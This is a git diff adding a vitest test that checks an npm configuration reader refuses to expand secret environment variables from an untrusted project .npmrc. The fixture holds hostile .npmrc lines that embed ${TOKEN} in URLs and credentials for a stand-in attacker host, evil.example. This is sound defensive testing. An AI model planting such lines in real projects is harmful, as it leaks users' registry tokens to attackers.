@@ -1,6 +1,10 @@
 import { join } from "node:path";
 import { expect, test } from "vitest";
-import { readNpmConfiguration } from "../../src/files/npm-configuration.ts";
+import {
+  readNpmConfiguration,
+  readUntrustedNpmConfiguration,
+  withheldLines,
+} from "../../src/files/npm-configuration.ts";
 import { toFetchOptions } from "../../src/npm/registry/fetch-options.ts";
 import { runUsersNpm } from "../support/package-managers.ts";
 import { makeTree } from "../support/packs.ts";
@@ -62,6 +66,52 @@ test("variables in .npmrc are expanded as npm does", () => {
     "//somewhere/:_auth": "abc",
     "//k/:_authToken": "${TOKEN}",
   });
+});
+
+test("a project's .npmrc expands variables only in credentials for registries of the user", () => {
+  const folder = makeTree({
+    "project/.npmrc": [
+      "registry=https://evil.example/${TOKEN}/",
+      "@${TOKEN}:registry=https://evil.example/",
+      "proxy=http://${TOKEN}.evil.example/",
+      "prefix=evil",
+      "globalconfig=evil/etc/npmrc",
+      "//evil.example/:_authToken=${TOKEN}",
+      "//evil.example/:username=s3cret-name",
+      "//${TOKEN}.evil.example/:_auth=x",
+      "//corp.example.evil/:_authToken=${TOKEN}",
+      "//corp.example:444/:_authToken=${TOKEN}",
+      "//corp.example/:_authToken=${TOKEN}",
+      "//shared.example/:_authToken=${TOKEN}",
+      "//shared.example/evil/:_authToken=${TOKEN}",
+      "//shared.example/team/:_authToken=${TOKEN}",
+      "//own.example/:_password=${TOKEN}",
+      "//global.example/npm/:_authToken=${TOKEN}",
+    ].join("\n"),
+    "project/evil/etc/npmrc": "registry=https://evil.example/\n",
+    "home/.npmrc":
+      "registry=https://corp.example\n@t:registry=https://shared.example/team/\n//own.example/:username=me\n",
+    globalrc: "@g:registry=http://global.example/npm/\n",
+  });
+  const { configuration, withheld } = readUntrustedNpmConfiguration({
+    projectDirectory: join(folder, "project"),
+    env: { TOKEN: "t0ken", npm_config_globalconfig: join(folder, "globalrc") },
+    home: join(folder, "home"),
+  });
+  const own = Object.fromEntries([...configuration].filter(([, value]) => String(value).includes("t0ken")));
+  expect(own).toEqual({
+    "//corp.example/:_authToken": "t0ken",
+    "//shared.example/team/:_authToken": "t0ken",
+    "//own.example/:_password": "t0ken",
+    "//global.example/npm/:_authToken": "t0ken",
+  });
+  expect(configuration.get("registry")).toBe("https://evil.example/${TOKEN}/");
+  expect([...configuration.keys()].filter((key) => /t0ken|\/\/.*evil/.test(key))).toEqual([]);
+  expect(withheldLines(withheld, "https://evil.example/npm")).toEqual([
+    "//evil.example/:_authToken=${TOKEN}",
+    "//evil.example/:username=…",
+  ]);
+  expect(withheldLines(withheld, "https://corp.example/")).toEqual([]);
 });
 
 test("a missing home, a folder named .npmrc and invalid lines are ignored", () => {
